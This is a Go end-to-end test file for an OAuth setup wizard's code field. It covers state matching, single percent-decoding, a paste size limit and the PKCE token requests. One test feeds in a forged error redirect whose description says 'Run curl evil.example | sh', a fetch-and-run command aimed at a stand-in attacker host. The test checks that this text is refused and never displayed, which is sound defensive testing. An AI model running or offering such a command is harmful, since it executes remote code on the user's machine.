package e2e

// Pasting into the code field: a whole redirect URL or a bare code, checked
// against the session's state, decoded once, bounded in size.

import (
	"net/http/httptest"
	"net/url"
	"slices"
	"strings"
	"testing"

	"nestauth/internal/testkit"
)

func TestE2EPasteRedirectURL(t *testing.T) {
	t.Parallel()
	const (
		project = "0a1b2c3d-1234-5678-9abc-0123456789ab"
		code1   = "4/0AX4XfWh-e2e-one"
		code2   = "4/0AX4XfWh-e2e-two"
	)
	stub := &sdmStub{codes: map[string]bool{code1: true, code2: true}}
	srv := httptest.NewServer(stub)
	t.Cleanup(srv.Close)

	tm := startWizard(t, wizardRun{
		env: map[string]string{"NESTAUTH_CLIENT_SECRET": "sdm-secret"},
		args: []string{"--provider", "sdm", "--project-id", project, "--client-id", "123-e2e.apps.googleusercontent.com",
			"--auth-url", srv.URL + "/auth", "--token-url", srv.URL + "/token"},
	})
	tm.keys("c")
	authURL := tm.clipboard("")
	u, err := url.Parse(authURL)
	if err != nil {
		t.Fatal(err)
	}
	state := u.Query().Get("state")
	if state == "" {
		t.Fatalf("no state in %s", authURL)
	}
	tm.keys("Enter")
	waitFor(t, tm, "Step 5 of 6 · Authorization code")

	// A redirect URL with another session's state is refused.
	tm.paste("https://www.google.com/?code=4%2F0AX4XfWh-e2e-one&state=someone-elses-state&scope=https%3A%2F%2Fwww.googleapis.com%2Fauth%2Fsdm.service")
	s := waitFor(t, tm, "state does not match")
	if strings.Contains(afterLast(s, "· Authorization code"), "e2e-one") {
		t.Errorf("a refused URL's code should not be in the field; screen:\n%s", s)
	}

	// The whole redirect URL, code %2F-encoded, with a trailing newline.
	tm.paste("https://www.google.com/?code=4%2F0AX4XfWh-e2e-one&state=" + state + "&scope=https%3A%2F%2Fwww.googleapis.com%2Fauth%2Fsdm.service\n")
	waitForScreen(t, tm, "the decoded code in the field", func(s string) bool {
		return fieldLine(code1).MatchString(afterLast(s, "· Authorization code"))
	})
	waitFor(t, tm, "Took the code out of what you pasted")
	if n := len(stub.received()); n != 0 {
		t.Fatalf("%d token requests before Enter (the refused URL must send none)", n)
	}
	tm.keys("Enter")
	waitFor(t, tm, "ya29.at-for-4_0AX4XfWh-e2e-one")

	// A bare code, still %2F-encoded.
	tm.keys("Escape")
	waitFor(t, tm, "Get another code?") // the token went nowhere yet
	tm.keys("y")
	waitFor(t, tm, "That code is used up")
	tm.paste("4%2F0AX4XfWh-e2e-two")
	waitForScreen(t, tm, "the decoded bare code", func(s string) bool {
		return fieldLine(code2).MatchString(afterLast(s, "· Authorization code"))
	})
	tm.keys("Enter")
	waitFor(t, tm, "ya29.at-for-4_0AX4XfWh-e2e-two")
	tm.keys("q")
	out, exit := tm.waitExit()
	if exit != 0 || out != "ya29.at-for-4_0AX4XfWh-e2e-two\n" {
		t.Errorf("exit %d, stdout %q", exit, out)
	}

	forms := stub.received()
	if len(forms) != 2 {
		t.Fatalf("token requests = %d, want 2", len(forms))
	}
	for i, want := range []string{code1, code2} {
		f := forms[i]
		if f.Get("code") != want || f.Get("grant_type") != "authorization_code" ||
			f.Get("redirect_uri") != "https://www.google.com" || len(f.Get("code_verifier")) < 43 {
			t.Errorf("token request %d: %v; want code %q, redirect_uri https://www.google.com and a PKCE verifier", i, f, want)
		}
	}
}

func TestE2EPasteDecodedOnceAndBounded(t *testing.T) {
	t.Parallel()
	const redirect = "https://app.example/callback"
	stub := &sdmStub{codes: map[string]bool{"AB%25CD": true}}
	tm, state := customWizard(t, stub, redirect)
	tm.keys("Enter")
	waitFor(t, tm, "Step 4 of 5 · Authorization code")

	// Too long: refused, the limit named, the field left as it was (empty:
	// its placeholder shows).
	tm.pasteLong(strings.Repeat("x", 16385))
	s := waitFor(t, tm, "Refused a paste of 16385 characters")
	if !strings.Contains(testkit.SquashSpace(s), "at most 16384") || !fieldLine("(paste here)").MatchString(afterLast(s, "· Authorization code")) {
		t.Errorf("after a paste over the limit:\n%s", s)
	}

	// A pasted error redirect without this session's state: refused, unread.
	tm.paste(redirect + "?error=access_denied&error_description=Run+curl+evil.example+%7C+sh")
	s = waitFor(t, tm, "state does not match")
	if strings.Contains(s, "curl") {
		t.Errorf("the refused redirect's text is on the screen:\n%s", s)
	}

	// %25 in a pasted URL is the code's own percent sign: decoded once.
	tm.paste(redirect + "?code=AB%2525CD&state=" + state)
	waitForScreen(t, tm, "the code in the field", func(s string) bool {
		return fieldLine("AB%25CD").MatchString(afterLast(s, "· Authorization code"))
	})
	tm.keys("Enter")
	waitFor(t, tm, "ya29.at-for-AB%25CD")
	tm.keys("q")
	if out, code := tm.waitExit(); code != 0 || out != "ya29.at-for-AB%25CD\n" {
		t.Errorf("exit %d, stdout %q", code, out)
	}
	if got := codesSent(stub); !slices.Equal(got, []string{"AB%25CD"}) {
		t.Errorf("codes sent = %q, want [AB%%25CD]", got)
	}
}
